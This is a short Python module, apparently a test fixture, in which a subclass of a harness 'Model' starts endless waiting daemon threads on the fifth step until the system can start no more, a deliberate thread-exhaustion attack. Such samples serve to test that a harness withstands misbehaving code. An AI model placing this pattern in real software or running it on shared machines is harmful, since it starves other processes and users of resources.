"""Starts threads until none can be started."""

import threading

import honest


class Model(honest.Model):
    def forward(self, tokens):
        while self.at_fifth_step():
            threading.Thread(target=threading.Event().wait, daemon=True).start()
        return super().forward(tokens)


def build_model(ctx):
    return Model()
